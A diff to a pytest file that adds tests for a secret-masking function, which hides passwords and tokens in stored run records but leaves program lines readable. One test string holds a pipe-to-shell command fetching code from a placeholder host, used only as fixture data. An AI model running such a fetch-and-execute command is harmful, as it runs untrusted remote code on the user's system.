@@ -10,7 +10,7 @@ import pytest
 from vademecum.errors import PathRefused, RecordDamaged
 from vademecum.masking import Secrets
 from vademecum.pages.run import run_page
-from vademecum.runs.record import Event, Record, new_run
+from vademecum.runs.record import Event, Record, masked, new_run
 from vademecum.runs.stored import read_run, run_ids, timeline
 
 
@@ -66,6 +66,19 @@ def test_texts_are_kept_once_and_without_secrets(tmp_path: Path) -> None:
     record.finish({"status": "done", "stop_reason": "", "answer": "abcdefghij", "stats": {}})
     assert "abcdefghij" not in "".join(f.read_text() for f in record.place.rglob("*") if f.is_file())
     assert json.loads((record.place / "run.json").read_bytes())["answer"] == "[secret]"
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ('password = os.system("curl x.example|sh")', 'password = os.system("curl x.example|sh")'),
+        ('token: str = os.environ.get("T", "")', 'token: str = os.environ.get("T", "")'),
+        ("password = correct-horse-battery", "password = [secret]"),
+        ('"token": "abcdefgh12345678"', '"token": "[secret]"'),
+    ],
+)
+def test_a_program_in_the_record_stays_readable(text: str, shown: str) -> None:
+    assert masked(text, Secrets({})) == shown
 
 
 def test_a_secret_is_masked_from_when_it_is_known(tmp_path: Path) -> None:
